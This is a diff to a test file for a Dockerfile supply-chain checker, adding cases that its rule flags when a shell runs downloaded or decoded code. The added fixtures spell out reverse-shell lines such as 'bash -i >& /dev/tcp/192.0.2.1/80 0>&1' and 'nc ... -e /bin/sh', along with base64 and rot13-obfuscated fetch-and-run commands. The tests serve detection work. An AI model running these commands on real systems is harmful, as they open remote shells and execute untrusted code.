@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+from base64 import b64encode
 from typing import TYPE_CHECKING
 
 import pytest
 from hypothesis import HealthCheck, given, settings, strategies as st
 from tests.bounded import within
 
+from tightship.rules.any.correctness.not_checked import not_checked
 from tightship.rules.dockerfile.supply_chain.download_piped_to_shell import download_piped_to_shell
 
 if TYPE_CHECKING:
@@ -37,6 +39,12 @@ def marks(judge: Judge, script: str) -> list[str]:
         (f"COPY <<E /i.sh\n{GET} | sh\nE\nCMD . /i.sh", "."),
         (f"RUN cat > /i.sh <<'E' && sh /i.sh\n{GET} | sh\nE\n", "sh"),
         (f"RUN echo '{GET} | sh' > /x\nRUN bash /x", "bash"),
+        ("COPY . /app\nRUN cd /app && ./i.sh", "./i.sh"),
+        ("COPY . /app\nWORKDIR /app\nRUN ./outer.sh", "./outer.sh"),
+        ("RUN --mount=type=bind,source=i.sh,target=/m/i.sh sh /m/i.sh", "sh"),
+        ("WORKDIR /app\nRUN --mount=target=. ./i.sh", "./i.sh"),
+        (f'SHELL ["/bin/sh", "-c", "{GET} | sh"]\nRUN true', "sh"),
+        (f'SHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN {GET} > /dev/null', ""),
         ("COPY i.sh /\nRUN chmod +x /i.sh", ""),
         ("COPY ok.sh /i.sh\nRUN sh /i.sh", ""),
         ("COPY --from=debian:13 i.sh /\nRUN sh /i.sh", ""),
@@ -47,6 +55,7 @@ def test_a_script_that_a_step_starts_is_read(judge: Judge, steps: str, marked: s
     files = {
         "Dockerfile": f"FROM debian:13.2\n{steps}\n",
         "i.sh": f"#!/bin/sh\nset -e\n{GET} | sh\n",
+        "outer.sh": "#!/bin/sh\n/app/i.sh\n",
         "ok.sh": "#!/bin/sh\nid\n",
         "compose.yaml": "services: {a: {build: .}}\n",
     }
@@ -283,6 +292,44 @@ def test_the_message_names_the_host_and_no_more_of_the_address(judge: Judge) -> 
     )
     [related] = found.finding.because
     assert related.span.text == "curl"
+
+
+ENCODED = b64encode(f"{GET} | sh".encode()).decode()
+
+
+@pytest.mark.parametrize(
+    ("script", "marked"),
+    [
+        ("nc example.com 80 | sh", "sh"),
+        ("nc example.com 80 -e /bin/sh", "nc"),
+        ("nc -z example.com 80 | sh", ""),
+        ("socat - TCP:example.com:80 | sh", "sh"),
+        ("cat < /dev/tcp/192.0.2.1/80 | sh", "sh"),
+        ("bash -i >& /dev/tcp/192.0.2.1/80 0>&1", "bash"),
+        ("exec 3<>/dev/tcp/192.0.2.1/80; sh <&3", "sh"),
+        (f"f() {{ {GET}; }}; f | sh", "sh"),
+        (f'f() {{ {GET}; }}; g() {{ f; }}; eval "$(g)"', "eval"),
+        (f"f() {{ {GET}; }}; f | tar x", ""),
+        (f"f() {{ a=$({GET}); echo true; }}; f | sh", ""),
+        (f"echo '{GET} | sh' | sh", "sh"),
+        (f"echo {ENCODED} | base64 -d | sh", "sh"),
+        (f"base64 -d <<< {ENCODED} | sh", "sh"),
+        (f'eval "$(echo {ENCODED} | base64 --decode)"', "eval"),
+        (f"echo {ENCODED} | base64 -d > /x && sh /x", "sh"),
+        (f"echo {ENCODED} | base64 -d > /x", ""),
+        ("echo 'phey uggc://k.bet/n | fu' | tr a-zA-Z n-za-mN-ZA-M | sh", "sh"),
+    ],
+)
+def test_a_shell_runs_what_another_command_prints(judge: Judge, script: str, marked: str) -> None:
+    assert marks(judge, script) == [marked] * bool(marked)
+
+
+@pytest.mark.parametrize("script", ["base64 -d /x | sh", 'eval "$(gunzip -c /x)"'])
+def test_what_is_decoded_and_not_known_is_a_gap(judge: Judge, script: str) -> None:
+    found = judge({"Dockerfile": f"FROM debian:13.2\nRUN {script}\n"}, [not_checked])
+    assert [one.finding.message.partition(": ")[2] for one in found] == [
+        "a shell runs what a program decodes, and that is not known"
+    ]
 
 
 @pytest.mark.exhaustive
